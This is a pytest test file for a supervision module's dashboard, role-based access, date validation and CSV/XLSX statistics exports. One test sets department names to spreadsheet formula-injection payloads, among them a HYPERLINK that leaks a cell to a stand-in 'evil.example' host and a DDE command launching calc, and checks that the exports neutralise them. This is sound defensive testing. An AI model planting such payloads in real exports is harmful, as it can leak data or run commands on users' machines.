"""The supervision pages: dashboard, monthly statistics, CSV and XLSX exports, the head of supervision; refusals."""
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.integration.supervision_fixture import build
from workflows.services.admin import settings
from workflows.services.supervision import monthly
from workflows.store.models import User

# the pages and what each role may do with them: their subject is no database (the flow, persistence and
# end-to-end tests run on both)
pytestmark = pytest.mark.one_database


@pytest.fixture
def kept_october(seeded, db_session):
    build(db_session)
    monthly.generate(db_session, "2026-10", date(2026, 11, 5))
    db_session.commit()


def test_dashboard_serves_its_charts_from_the_app(client, auth, seeded):
    auth.login("supervisor")
    page = client.get("/supervision/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert '<script type="application/json" id="supervision-data">' in html
    assert "/static/vendor/chart.umd.min.js" in html and "http" not in html.split("supervision-data")[0][-300:]
    library = client.get("/static/vendor/chart.umd.min.js")
    assert library.status_code == 200 and b"Chart" in library.data[:2000]
    assert client.get("/static/supervision.js").status_code == 200
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]


def test_only_supervisors_see_the_dashboard_and_departments_their_own_view(client, auth, seeded):
    auth.login("provider")
    assert client.get("/supervision/").status_code == 403
    assert client.get("/supervision/reports").status_code == 403
    assert client.get("/supervision/department").status_code == 200
    auth.logout()
    auth.login("applicant")
    assert client.get("/supervision/department").status_code == 403


def test_bad_periods_are_shown_next_to_their_field(client, auth, seeded):
    auth.login("supervisor")
    backwards = client.get("/supervision/?start=2026-10-31&end=2026-10-01")
    assert backwards.status_code == 422 and 'id="end-error"' in backwards.get_data(as_text=True)
    future = client.get("/supervision/reports/period?start=2099-01-01&end=2099-01-31")
    assert future.status_code == 422 and 'id="start-error"' in future.get_data(as_text=True)
    generate_future = client.post("/supervision/reports", data={"month": "2099-01"})
    assert generate_future.status_code == 422 and 'id="month-error"' in generate_future.get_data(as_text=True)
    missing = client.get("/supervision/reports/2026-09.xlsx")
    assert missing.status_code == 404 and "2026-09" in missing.get_data(as_text=True)


def test_kept_month_page_csv_and_xlsx(client, auth, kept_october):
    auth.login("supervisor")
    client.post("/lang/en")  # the column headings as written in the code
    page = client.get("/supervision/reports/2026-10")
    assert page.status_code == 200 and "data-print" in page.get_data(as_text=True)
    csv_file = client.get("/supervision/reports/2026-10.csv")
    assert csv_file.headers["Content-Disposition"] == 'attachment; filename="statistics-2026-10.csv"'
    lines = csv_file.data.decode("utf-8-sig").splitlines()
    total = lines[-1].split(",")
    # the total's and the accepting office's rows have no department code, only their names
    assert total[:2] == ["", "Total"] and total[-2:] == ["2", "7.0000"]  # cases closed, median working days
    assert "accepting_office" not in csv_file.data.decode("utf-8-sig")
    xlsx = client.get("/supervision/reports/2026-10.xlsx")
    assert xlsx.data == client.get("/supervision/reports/2026-10.xlsx").data  # the same file each time
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert "2026-10" in sheet["A1"].value
    header = [cell.value for cell in sheet[2]]
    column = {name: index for index, name in enumerate(header)}
    rows = {row[0].value or row[1].value: row for row in sheet.iter_rows(min_row=3)}
    rows["total"], rows["accepting_office"] = rows.pop("Total"), rows.pop("Accepting office")
    assert {"SCJGJ", "SWJ", "FY"} <= set(rows)
    black_resumed = 2 + 4 * 1 + 2  # lists red, black, key-attention x applied, suspended, resumed, stopped
    assert rows["total"][black_resumed].value == 4 and rows["RMYH"][black_resumed + 1].value == 1
    tax = rows["SWJ"]
    assert tax[column["Deadlines missed"]].value == 1 and tax[column["Compliance rate"]].value == 0.0
    assert tax[column["Compliance rate"]].number_format == "0.0%"
    total = rows["total"]
    assert total[column["Compliance rate"]].value == 0.5 and total[column["Cases closed"]].value == 2
    assert total[column["Median handling time (working days)"]].value == 7.0
    assert rows["SCJGJ"][column["Median handling time (working days)"]].value == 7.0


def test_on_demand_period_exports(client, auth, kept_october):
    auth.login("supervisor")
    page = client.get("/supervision/reports/period?start=2026-10-01&end=2026-10-31")
    assert page.status_code == 200
    exported = client.get("/supervision/reports/period?start=2026-10-01&end=2026-10-31&format=xlsx")
    last = list(load_workbook(io.BytesIO(exported.data)).active.iter_rows(values_only=True))[-1]
    assert last[:2] == (None, "合计") and last[-1] == 7.0


def test_the_administrator_names_the_head_of_supervision(client, auth, db_session, seeded):
    auth.login("admin")
    supervisor_id = db_session.scalar(select(User.id).where(User.username == "supervisor"))
    assert client.get("/supervision/head").status_code == 200
    assert client.post("/supervision/head", data={"user": str(supervisor_id)}).status_code == 302
    db_session.expire_all()
    assert settings.get(db_session, "supervision.head_user_id") == supervisor_id


FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1", "\r=1")


def test_exports_carry_no_formula_whatever_a_name_holds(client, auth, kept_october, db_session):
    """A department named like a formula: the CSV cell starts with a quote, the XLSX cell is text, not a formula."""
    from workflows.store.models import Department

    departments = db_session.scalars(select(Department).order_by(Department.id)).all()[:len(FORMULAS)]
    for department, formula in zip(departments, FORMULAS):
        department.name = formula
    db_session.commit()
    auth.login("supervisor")
    period = "/supervision/reports/period?start=2026-10-01&end=2026-10-31&format="
    import csv

    cells = [cell for row in csv.reader(io.StringIO(client.get(period + "csv").data.decode("utf-8-sig")))
             for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells and formula not in cells, formula
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    workbook = load_workbook(io.BytesIO(client.get(period + "xlsx").data))
    sheet = workbook.active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in texts if cell.data_type == "f" or cell.value.startswith("=")]
    for formula in FORMULAS:  # (XML reads a carriage return back as a line feed)
        assert "'" + formula.replace("\r", "\n") in [cell.value for cell in texts], formula


def test_neutral_leaves_numbers_and_plain_text_alone():
    from workflows.services.supervision.report_files import neutral

    assert neutral(-3) == -3 and neutral(0.5) == 0.5 and neutral(None) is None
    assert neutral("珠海市市场监督管理局") == "珠海市市场监督管理局" and neutral("=1") == "'=1"
